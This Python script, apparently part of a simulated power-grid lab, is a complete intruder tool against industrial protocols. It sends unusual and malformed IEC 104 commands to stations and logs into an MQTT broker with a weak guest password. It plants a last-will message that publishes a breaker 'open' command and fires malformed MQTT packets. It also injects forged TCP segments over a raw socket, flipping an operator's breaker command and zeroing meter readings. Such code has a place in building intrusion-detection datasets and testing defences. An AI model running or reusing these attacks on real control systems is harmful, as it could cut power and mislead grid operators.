"""The intruder once more, with tools of his own: `injection.py iec104|mqtt|wire`.

`iec104` and `mqtt` speak over plain sockets what no library would: requests that sites never use, and messages
that break the standard. `wire` forges second copies of what others have just sent, with other content.
"""

import re
import socket
import struct
import sys
import time

import plan
from intruder import ORIGINATOR, STARTDT_ACT
from mqtt import PASSWORDS

NORTH, EAST = plan.STATIONS["north"][0], plan.STATIONS["east"][0]
METER = "10.40.12.11"
QUIET = 0.15  # seconds without an answer after which the next message goes out

REQUEST, ACTIVATION, DEACTIVATION, FILE_TRANSFER = 5, 6, 8, 13
TEST = 0x80  # the T bit in the octet of the cause
ALL_STATIONS = 0xFFFF
TIME = bytes.fromhex("000000070a1a")  # a CP56Time2a without its first octet


class Link:
    """A controlling station made by hand: it counts what it gets, and acknowledges all of it."""

    def __init__(self, ip: str, port: int = plan.IEC104_PORT, first: bytes = b"") -> None:
        self.socket = socket.create_connection((ip, port), timeout=QUIET)
        self.sent = self.received = 0
        self.unread = b""
        if first:
            self.send(first)
        self.send(STARTDT_ACT)

    def send(self, octets: bytes) -> None:
        self.socket.sendall(octets)
        self.read()

    def ask(self, kind: int, ca: int, ioa: int, element: bytes, cause: int = ACTIVATION) -> None:
        self.send(self.apdu(asdu(kind, ca, ioa, element, cause)))

    def apdu(self, body: bytes) -> bytes:
        """An APDU of format I."""
        head = struct.pack("<BBHH", 0x68, 4 + len(body), self.sent << 1, self.received << 1)
        self.sent += 1
        return head + body

    def read(self) -> None:
        try:
            while octets := self.socket.recv(4096):
                self.unread += octets
        except (TimeoutError, ConnectionResetError):
            pass
        while len(self.unread) >= 2 and len(self.unread) >= (end := 2 + self.unread[1]):
            self.received += 1 - (self.unread[2] & 1)
            self.unread = self.unread[end:]

    def close(self) -> None:
        """Acknowledges in format S, and goes."""
        try:
            self.send(struct.pack("<BBHH", 0x68, 4, 1, self.received << 1))
            self.socket.shutdown(socket.SHUT_WR)
            self.read()
        except OSError:
            pass  # the station has hung up before
        self.socket.close()


def asdu(kind: int, ca: int, ioa: int, element: bytes, cause: int = ACTIVATION, count: int = 1) -> bytes:
    header = struct.pack("<BBBBH", kind, count, cause, ORIGINATOR, ca)
    return header + ioa.to_bytes(3, "little") + element


# What sites hardly ever use: type, common address, object address, element, cause.
REQUESTS = (
    (100, ALL_STATIONS, 0, bytes((20,)), ACTIVATION),  # interrogation of whoever is there
    *((102, 11, ioa, b"", REQUEST) for ioa in range(2098, 2106)),  # reads point after point
    (110, 11, 2001, struct.pack("<hB", 16384, 1), ACTIVATION),  # threshold, normalized
    (111, 11, 2003, struct.pack("<hB", 3000, 2), ACTIVATION),  # smoothing factor, scaled
    (112, 11, 2101, struct.pack("<fB", 400.0, 4), ACTIVATION),  # high limit, floating point
    (113, 11, 2101, bytes((3,)), ACTIVATION),  # cyclic transmission, on …
    (113, 11, 2101, bytes((3,)), DEACTIVATION),  # … and off
    (45, 11, 5001, bytes((1,)), ACTIVATION | TEST),  # single command
    (51, 12, 5401, struct.pack("<I", 7), ACTIVATION | TEST),  # bit string
    (122, 11, 0, struct.pack("<HBB", 0, 0, 0), REQUEST),  # the directory
    (122, 11, 1, struct.pack("<HBB", 1, 0, 1), FILE_TRANSFER),  # select file 1
    (127, 11, 2, struct.pack("<H", 2) + b"\0" + TIME + b"\0" + TIME, FILE_TRANSFER),  # a log
    (120, 11, 3, struct.pack("<HHBB", 3, 16, 0, 0), FILE_TRANSFER),  # a file for the station
    (125, 11, 3, struct.pack("<HBB", 3, 1, 16) + bytes(range(16)), FILE_TRANSFER),  # a segment of it
)

# What breaks the standard, each on a link of its own: most stations hang up.
INTERROGATION = asdu(100, 21, 0, bytes((20,)))
BROKEN_ASDUS = (
    INTERROGATION + b"\xca\xfe",  # two octets too many
    asdu(45, 21, 5002, b""),  # the object lacks its element
    asdu(100, 21, 0, bytes((20,)), count=0),  # no object
    asdu(88, 21, 1, b"\0"),  # a reserved type
    asdu(100, 21, 0, bytes((20,)), cause=43),  # a reserved cause
    INTERROGATION[:4],  # not even a header
)
BROKEN_APCIS = (
    bytes.fromhex("680307000000"),  # length 3
    bytes.fromhex("68fe07000000"),  # length 254
    bytes.fromhex("690443000000"),  # a start octet that is none
    bytes.fromhex("680447000000"),  # two functions at once
    bytes.fromhex("680443000100"),  # octets that must be zero
)


def attack_stations() -> None:
    link = Link(NORTH)
    for request in REQUESTS:
        link.ask(*request)
    link.close()
    for body in BROKEN_ASDUS:
        link = Link(EAST)
        link.send(link.apdu(body))
        link.close()
    for octets in BROKEN_APCIS:
        link = Link(EAST)
        link.send(octets)
        link.close()


def text(content: str) -> bytes:
    return struct.pack(">H", len(content)) + content.encode()


def packet(first: int, body: bytes) -> bytes:
    return bytes((first, len(body))) + body


def connect(level: int, flags: int = 0, will: bytes = b"") -> bytes:
    """With the weak login, and no properties at level 5."""
    properties = b"\0" if level == 5 else b""
    head = text("MQTT") + struct.pack(">BBH", level, 0xC2 | flags, 30) + properties
    return packet(0x10, head + text("probe-66") + will + text("guest") + text(PASSWORDS["guest"]))


COMMAND = "grid/north/feeder12/breaker/command"
TELEMETRY = "grid/north/feeder12/meter/4712/telemetry"
OPEN = b'{"position":"open"}'
# The broker publishes this when the connection breaks, which the next packet sees to.
LAST_WILL = connect(4, 0x24, text(COMMAND) + struct.pack(">H", len(OPEN)) + OPEN)

# Level, then the packet that no client may send; each on a connection of its own.
BROKEN_PACKETS = (
    (connect(4), packet(0x36, text(TELEMETRY) + b"\0\x07{}")),  # quality of service 3
    (connect(4), packet(0x00, b"")),  # type 0
    (connect(4), packet(0xF0, b"")),  # type 15, which only level 5 has
    (connect(4), packet(0x30, text("grid/+/feeder12/#") + b"{}")),  # a filter for a topic name
    (connect(4), packet(0x30, text("") + b"{}")),  # no topic
    (connect(4), packet(0x80, b"\0\x08" + text(TELEMETRY) + b"\0")),  # flags that SUBSCRIBE does not have
    (connect(4), packet(0x82, b"\0\x00" + text(TELEMETRY) + b"\0")),  # identifier 0
    (connect(4), packet(0x82, b"\0\x09" + text("grid/#/meter") + b"\0")),  # a wildcard in the middle
    (connect(4), bytes.fromhex("30ffffffff7f")),  # a length of five octets
    (connect(5), packet(0x30, text(TELEMETRY) + b"\x02\x7f\x01{}")),  # a property that nobody knows
    (connect(5), packet(0x30, text("") + b"\x03\x23\x00\x00{}")),  # topic alias 0
    (LAST_WILL, packet(0xC1, b"")),  # flags that PINGREQ does not have
)


def attack_broker() -> None:
    for greeting, broken in BROKEN_PACKETS:
        with socket.create_connection((plan.BROKER, plan.MQTT_PORT), timeout=QUIET) as link:
            for octets in (greeting, broken):
                link.sendall(octets)
                await_silence(link)


def await_silence(link: socket.socket) -> None:
    try:
        while link.recv(4096):
            pass
    except (TimeoutError, ConnectionResetError):
        pass


# Sender, port of the server, what the payload must look like, and what takes its place.
FORGERIES = (
    # What an operator's command did to point 1001: on becomes off, or off on.
    (NORTH, plan.IEC104_PORT, rb"^h.{5}\x01\x01\x0b.\x0b\x00\xe9\x03\x00.$",
     lambda payload: payload[:-1] + bytes((payload[-1] ^ 1,))),
    # A reading with quality of service 0 or 1: every digit becomes a zero.
    (METER, plan.MQTT_PORT, rb"^[\x30-\x33].*/telemetry.*\{",
     lambda payload: payload[: payload.index(b"{")] + re.sub(rb"[1-9]", b"0", payload[payload.index(b"{"):])),
)


def forge(seconds: float) -> None:
    """Sends a second copy of each segment that FORGERIES names, at once: the receiver has the first and
    drops it. The switch floods, so that what is sent to the others comes by (see `../record`)."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    wire.bind(("eth0", 0x0800))
    wire.settimeout(QUIET)
    own = wire.getsockname()[4]
    until = time.monotonic() + seconds
    forged = [0] * len(FORGERIES)
    while time.monotonic() < until:
        try:
            frame = wire.recv(2048)
        except TimeoutError:
            continue
        for index, (sender, port, wanted, change) in enumerate(FORGERIES):
            if copy := forged_copy(frame, own, sender, port, wanted, change):
                wire.send(copy)
                forged[index] += 1
    if not all(forged):
        sys.exit(f"injection: forged {forged}")


def forged_copy(frame: bytes, own: bytes, sender: str, port: int, wanted: bytes, change) -> bytes | None:
    if frame[6:12] == own or frame[23] != socket.IPPROTO_TCP or frame[26:30] != socket.inet_aton(sender):
        return None
    start = 14 + (frame[14] & 0xF) * 4
    data = start + (frame[start + 12] >> 4) * 4
    end = 14 + int.from_bytes(frame[16:18], "big")
    payload = frame[data:end]
    ports = struct.unpack(">HH", frame[start : start + 4])
    if port not in ports or not re.search(wanted, payload, re.DOTALL):
        return None
    segment = bytearray(frame[start:data] + change(payload))
    segment[16:18] = b"\0\0"
    pseudo_header = frame[26:34] + struct.pack(">HH", socket.IPPROTO_TCP, len(segment))
    segment[16:18] = checksum(pseudo_header + segment)
    return frame[:6] + own + frame[12:start] + segment


def checksum(octets: bytes) -> bytes:
    """RFC 1071."""
    words = struct.unpack(f">{(len(octets) + 1) // 2}H", octets + b"\0" * (len(octets) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", total ^ 0xFFFF)


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["iec104"]:
            attack_stations()
        case ["mqtt"]:
            attack_broker()
        case ["wire", seconds]:
            forge(float(seconds))
